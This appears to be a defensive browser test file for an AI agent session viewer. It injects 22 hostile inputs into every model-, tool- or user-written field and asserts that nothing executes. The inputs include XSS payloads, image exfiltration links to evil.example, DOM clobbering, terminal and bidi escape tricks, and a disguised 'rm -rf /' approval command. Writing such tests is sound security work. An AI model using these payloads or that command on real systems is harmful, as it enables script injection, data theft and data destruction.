// What a model, a tool, a host or another person may write: it is shown, and that is all it does. No dialog, no
// request, no element that is not on the list, no handler.
import assert from 'node:assert/strict';
import { scene, text, until, word } from '../support/browser.mjs';

const nested = (piece, count) => piece.repeat(count);
/** The 22 kinds. */
const KINDS = {
  script: '<script>alert(1)</script>',
  onerror: '<img src=x onerror=alert(1)>',
  'javascript link': '[click](javascript:alert(1))',
  'javascript link with a tab': '[click](java\tscript:alert(1))',
  'javascript link with entities': '[click](&#106;avascript&colon;alert(1))',
  'data link': '[click](data:text/html,<script>alert(1)</script>)',
  'vbscript link': '[click](vbscript:msgbox(1))',
  'autolink of javascript': '<javascript:alert(1)>',
  'image exfiltration': '![x](https://evil.example/?q=secret)',
  'reference image': '![x][r]\n\n[r]: https://evil.example/r.png',
  'html image': '<img src="https://evil.example/y.png">',
  svg: '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
  'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'math mutation': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  clobbering: '<form id=composer><input name=action id=prompt></form><a id=stream name=location></a>',
  'style import': '<style>@import "https://evil.example/a.css";</style><link rel=stylesheet href=https://evil.example/b.css>',
  'meta refresh': '<meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/">',
  'link title attack': '[x](https://ok.example "a\\" onmouseover=alert(1)")',
  'code fence info': '```"><img src=x onerror=alert(1)>\ncode\n```',
  'deep quotes': `${nested('> ', 300)}deep`,
  'many brackets': nested('[', 5000),
  'escapes and bidi': '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u202etxt.exe\u202c \u0007\u009b31m \u200b\u2066x\u2069',
};
const ALLOWED = new Set(['A', 'P', 'STRONG', 'EM', 'DEL', 'CODE', 'PRE', 'UL', 'OL', 'LI', 'BLOCKQUOTE', 'HR', 'BR', 'TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD', 'DIV', 'SPAN', 'ARTICLE', 'SECTION', 'DETAILS', 'SUMMARY', 'H2', 'B', 'BUTTON', 'svg', 'use']);

/** What is on the page that should not be. */
const forbidden = (page) => page.evaluate((allowed) => {
  const found = [];
  for (const element of document.querySelectorAll('#items *, dialog[open] .choice *')) {
    if (!allowed.includes(element.tagName)) found.push(element.tagName);
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on') || ['src', 'srcdoc', 'style', 'action'].includes(name)) found.push(`${element.tagName} ${name}`);
      if (name === 'href' && element.tagName === 'A' && !/^(https?|mailto):/.test(value)) found.push(`href ${value}`);
    }
    if (element.tagName === 'A' && element.rel !== 'noopener noreferrer nofollow') found.push('a without rel');
  }
  return found;
}, [...ALLOWED]);

/** The session with `hostile` everywhere that somebody else may write. */
function poison(server, hostile) {
  const session = server.session({ name: hostile.slice(0, 200) });
  session.turns = 1;
  session.emit('user', { text: hostile, by: hostile.slice(0, 60) });
  session.emit('thinking', { block: 0, text: hostile });
  session.emit('delta', { block: 1, text: hostile });
  session.emit('tool', { tool_id: 't', name: hostile.slice(0, 80), input: { command: hostile }, command: hostile });
  session.emit('tool_result', { tool_id: 't', is_error: false, text: hostile, bytes: hostile.length, truncated: true, ms: 1 });
  session.emit('approval', { approval: 'a', kind: 'tool', tool: hostile.slice(0, 80), command: hostile, description: hostile, rule: hostile, input: {}, expires_at: Date.now() + 99999 });
  return session;
}

export const cases = [
  ...Object.entries(KINDS).map(([name, hostile]) => ({
    name: `hostile ${name}`,
    run: (browser) => scene(browser, { before: (server) => poison(server, hostile) }, async ({ page, server }) => {
      await word(page, 'Live');
      await page.waitForSelector('.card');
      await page.click('.fold:not(.thought) summary');
      assert.deepEqual(await forbidden(page), []);
      const [session] = server.sessions.values();
      session.emit('decision', { approval: 'a', decision: 'deny', by: hostile.slice(0, 60), reason: hostile });
      session.emit('error', { error: hostile });
      session.emit('turn_end', { state: 'failed', ms: 1 });
      await page.waitForSelector('.end');
      await page.click('#session');
      await page.waitForSelector('.choice');
      assert.deepEqual(await forbidden(page), []);
    }),
  })),
  {
    name: 'hostile bytes of an approval are seen for what they are',
    run: (browser) => scene(browser, { before: (server) => poison(server, 'echo \u202eevil\u202c\u200b; \u001b[8mrm -rf /') }, async ({ page }) => {
      await page.waitForSelector('.card pre');
      assert.equal(await text(page, '.card pre'), 'echo \\u{202e}evil\\u{202c}\\u{200b}; \\u{1b}[8mrm -rf /');
    }),
  },
  {
    name: 'hostile string never becomes script: the policy refuses every sink',
    run: (browser) => scene(browser, { own: true, expectRefused: /Content Security Policy|Trusted ?(HTML|Script|Type)/i }, async ({ page }) => {
      // Later, when what the driver itself is allowed is over.
      const refused = await page.evaluate(() => new Promise((done) => setTimeout(() => {
        const sinks = {
          innerHTML: () => { document.body.innerHTML = '<p>x</p>'; },
          insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', 'x'),
          write: () => document.write('x'),
          eval: () => window.eval('1'),
          setTimeout: () => setTimeout('1'),
          src: () => { document.createElement('script').src = 'https://evil.example/x.js'; },
          policy: () => window.trustedTypes.createPolicy('another', {}),
          'policy again': () => window.trustedTypes.createPolicy('breakglass-worker', {}),
        };
        done(Object.entries(sinks).filter(([, use]) => {
          try {
            use();
            return true;
          } catch {
            return false;
          }
        }).map(([name]) => name));
      })));
      assert.deepEqual(refused, []);
      const inline = await page.evaluate(async () => {
        const script = document.createElement('script');
        script.append('window.ran = 1');
        document.body.append(script);
        const image = new Image();
        image.src = 'https://evil.example/i.png';
        await fetch('https://evil.example/').catch(() => {});
        return { ran: 'ran' in window };
      }).catch(() => ({ ran: false }));
      assert.equal(inline.ran, false);
    }),
  },
  {
    name: 'hostile speed: 400 blocks of markdown do not stop the page',
    run: (browser) => scene(browser, { before: (server) => {
      const session = server.session();
      session.turns = 1;
      session.emit('user', { text: 'x', by: 'sam' });
      session.emit('delta', { block: 0, text: Array.from({ length: 400 }, (_, n) => `**Block ${n}** with \`code\`, [a link](https://a.example/${n}) and *more*.\n\n`).join('') });
      session.emit('turn_end', { state: 'done', ms: 1 });
    } }, async ({ page }) => {
      await until(page, () => document.querySelectorAll('.md p').length === 400);
      assert.equal(await page.locator('.md a').count(), 400);
    }),
  },
];
